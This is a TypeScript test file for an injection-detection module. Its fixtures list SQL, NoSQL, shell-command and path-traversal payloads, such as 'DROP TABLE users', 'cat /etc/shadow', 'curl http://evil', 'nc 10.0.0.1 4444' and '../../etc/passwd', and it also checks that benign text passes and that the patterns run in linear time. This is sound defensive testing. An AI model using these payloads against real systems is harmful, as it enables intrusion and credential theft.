import { describe, expect, it } from 'vitest';
import {
  detectInjection,
  INJECTION_RULES,
  isNoSqlOperatorKey,
  scanForInjection,
} from './injection';

const rulesOf = (value: string) => detectInjection(value).map((signal) => signal.rule);

describe('detectInjection', () => {
  it.each([
    ["' OR '1'='1", 'sql-tautology'],
    ['1" or 1=1 --', 'sql-tautology'],
    ["') or ('a'='a", 'sql-tautology'],
    ["admin' --", 'sql-comment-after-quote'],
    ["x'/*", 'sql-comment-after-quote'],
    ['1 UNION ALL SELECT username, password FROM users', 'sql-union-select'],
    ["'; DROP TABLE users; --", 'sql-stacked-query'],
    ['1; delete from accounts', 'sql-stacked-query'],
    ['1; update users set admin=1', 'sql-stacked-query'],
    ['1 AND SLEEP(5)', 'sql-time-delay'],
    ["1; WAITFOR DELAY '0:0:5'", 'sql-time-delay'],
    ['1 and 1=(select count(*) from information_schema.tables)', 'sql-system-object'],
    ['select * from users', 'sql-select-from'],
    ['SELECT 1,2,null FROM dual', 'sql-select-from'],
    ['{"$where": "sleep(100)"}', 'nosql-operator'],
    ['user[$ne]=x', 'nosql-operator'],
    ['a; cat /etc/shadow', 'shell-command-chain'],
    ['x && curl http://evil', 'shell-command-chain'],
    ['| nc 10.0.0.1 4444', 'shell-command-chain'],
    ['`whoami`', 'shell-command-chain'],
    ['$(id)', 'shell-substitution'],
    ['a${IFS}b', 'shell-substitution'],
    ['../../etc/passwd', 'path-dot-dot'],
    ['..\\..\\windows\\win.ini', 'path-dot-dot'],
    ['%2e%2e%2fsecret', 'path-dot-dot'],
    ['..%c0%af', 'path-dot-dot'],
    ['/etc/passwd', 'path-sensitive-file'],
    ['C:\\Windows\\system32', 'path-sensitive-file'],
    ['file.txt%00.png', 'path-null-byte'],
    ['file.txt\u0000.png', 'path-null-byte'],
  ])('flags %s', (value, rule) => {
    expect(rulesOf(value)).toContain(rule);
  });

  it('leaves ordinary text alone', () => {
    const corpus = [
      "O'Brien",
      "Conan O'Brien and Sinéad O'Connor",
      'Please drop me a line',
      'Select a plan from the list',
      'select the best option from the menu',
      'Let x = 5',
      "It's 5 o'clock -- time to go",
      'Tom & Jerry; cats and dogs',
      'Rock & roll || blues',
      'I went home; sleep was needed',
      'We sell at $5 or less, email me at a@b.co',
      'Union members select their representative',
      'Update: the meeting is at 10',
      "Don't delete from the list",
      'Wait... what?',
      'See section 1.2.3 and https://example.com/a/b?c=d#e',
      'Rated 5/5 — would buy again!',
      '100% cotton, 50%-off sale',
      'C: drive is full',
      'The price is $ne0 in the catalogue',
      "She said 'or else' = trouble",
      'Use **bold** to select * items',
      'Q&A session: bring questions',
      'The directory ./src holds the code',
      'Héllo wörld 👋 — naïve café',
    ];
    for (const text of corpus) expect(detectInjection(text), text).toEqual([]);
  });

  it('looks only for the kinds asked for', () => {
    expect(detectInjection("' OR '1'='1; cat /etc/passwd", { kinds: ['shell'] })).toEqual([
      { kind: 'shell', rule: 'shell-command-chain' },
    ]);
  });

  it('runs every pattern in linear time on 100 KB adversarial strings', () => {
    const size = 100_000;
    const adversarial = [
      ' '.repeat(size) + '!',
      '\t'.repeat(size) + '!',
      "'".repeat(size),
      "' ".repeat(size / 2),
      "'" + ' '.repeat(size) + 'or',
      'union '.repeat(size / 6),
      ';'.repeat(size),
      '; '.repeat(size / 2),
      '$('.repeat(size / 2),
      '$(a'.repeat(size / 3),
      '$(' + 'a'.repeat(size),
      '../'.repeat(size / 3),
      '.'.repeat(size),
      '%2e'.repeat(size / 3),
      'select '.repeat(size / 7),
      'select 1,'.repeat(size / 9),
      'a'.repeat(size),
      '`'.repeat(size),
      '|| '.repeat(size / 3),
      '$'.repeat(size),
      'sleep('.repeat(size / 6),
      'x'.repeat(size) + "' OR '1'='1",
    ];
    for (const { rule, pattern } of INJECTION_RULES) {
      let worst = 0;
      for (const text of adversarial) {
        const started = performance.now();
        pattern.test(text);
        worst = Math.max(worst, performance.now() - started);
      }
      // Linear patterns take a few ms here; a backtracking one would take seconds or more.
      expect(worst, rule).toBeLessThan(200);
    }
  });
});

describe('scanForInjection', () => {
  it('walks values and keys and points at them', () => {
    const body = JSON.parse(
      '{"user":{"$ne":null},"list":["ok","1; cat /etc/passwd"],"q[$gt]":"","n":1}',
    ) as unknown;
    expect(scanForInjection(body, { path: ['body'] })).toEqual([
      { kind: 'nosql', rule: 'nosql-operator-key', pointer: '#/body/user/%24ne' },
      { kind: 'shell', rule: 'shell-command-chain', pointer: '#/body/list/1' },
      { kind: 'path-traversal', rule: 'path-sensitive-file', pointer: '#/body/list/1' },
      { kind: 'nosql', rule: 'nosql-operator', pointer: '#/body/q%5B%24gt%5D' },
    ]);
    expect(scanForInjection({ $where: 1 }, { kinds: ['sql'] })).toEqual([]);
    expect(scanForInjection('plain')).toEqual([]);
  });

  it('stops at depth 64', () => {
    let deep: unknown = "' OR '1'='1";
    for (let i = 0; i < 100; i++) deep = [deep];
    expect(scanForInjection(deep)).toEqual([]);
  });

  it('knows the MongoDB operators', () => {
    expect(isNoSqlOperatorKey('$where')).toBe(true);
    expect(isNoSqlOperatorKey('$elemMatch')).toBe(true);
    expect(isNoSqlOperatorKey('where')).toBe(false);
    expect(isNoSqlOperatorKey('$price')).toBe(false);
  });
});
